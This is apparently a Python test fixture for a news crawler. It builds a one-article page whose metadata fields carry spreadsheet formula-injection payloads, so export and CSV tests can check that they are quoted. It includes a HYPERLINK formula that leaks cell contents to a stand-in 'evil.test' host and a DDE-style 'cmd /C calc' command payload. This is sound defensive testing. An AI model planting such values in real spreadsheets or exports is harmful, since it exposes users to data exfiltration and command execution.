"""A crawled article with a spreadsheet formula in every text field (issue #15).

Shared by the tests of ``crawler.export`` and of Datasette's CSV: both must
quote the same hostile cells, so both crawl the same page.
"""

from __future__ import annotations

from pathlib import Path

from tests.support import fault_server as fs
from tests.support.crawl import crawl

TITLE = '=HYPERLINK("http://evil.test/?"&A1,"خبر عاجل")'
AUTHOR = "@SUM(A+B)*cmd|' /C calc'!A"  # no digits: a name with digits is no author
SECTION = "+محليات"
HEAD = (
    f'<meta name="author" content="{AUTHOR}">'
    f'<meta property="article:section" content="{SECTION}">'
    '<meta name="keywords" content="-2+3, =1+1, وسم عادي">'
)


def crawl_formula_page(db: Path) -> Path:
    """Crawl the one-article site into ``db`` and return it."""
    site = fs.Site()
    html = fs.article_html("formula", title=TITLE).replace("<title>", HEAD + "<title>")
    site.add("/a/formula.html", fs.page(html))
    with fs.run(site.build()) as server:
        crawl("-a", f"url={server.url}", db=db)
    return db
